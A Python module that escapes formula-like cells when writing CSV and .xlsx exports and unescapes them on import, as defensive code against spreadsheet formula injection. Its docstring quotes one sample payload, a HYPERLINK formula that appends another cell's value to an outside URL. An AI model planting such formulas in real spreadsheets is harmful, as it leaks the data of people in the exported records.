"""THE escaping rule for every spreadsheet we write (CSV and .xlsx, staff and public), and its mirror
for what we read back. Plain Python, no Django import.

A cell that begins with ``= + - @``, a tab or a carriage return would be taken by Excel/WPS for a formula
(formula injection: ``=HYPERLINK("http://…"&B2,"查看附件")`` as an applicant's name). Such cells are
written as text: with a leading ``'`` in CSV, and as a cell whose data type is string in .xlsx
(openpyxl would otherwise store a string beginning with ``=`` as a live formula).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value to hand to csv.writer: None → "", formula-like text → "'" + text."""
    if value is None:
        return ""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    if not isinstance(value, str | int | float):
        value = str(value)
        return "'" + value if is_formula_like(value) else value
    return value


def csv_unescape(text: str) -> str:
    """What an import reads from a CSV cell we (or Excel) escaped: "'=x" → "=x"."""
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text


def write_csv_rows(handle, rows: Iterable[Iterable[Any]]) -> None:
    writer = csv.writer(handle)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])


def xlsx_append(sheet, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet; formula-like text stays text (data type "s")."""
    values = ["" if v is None else v for v in values]
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and value.startswith("="):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"
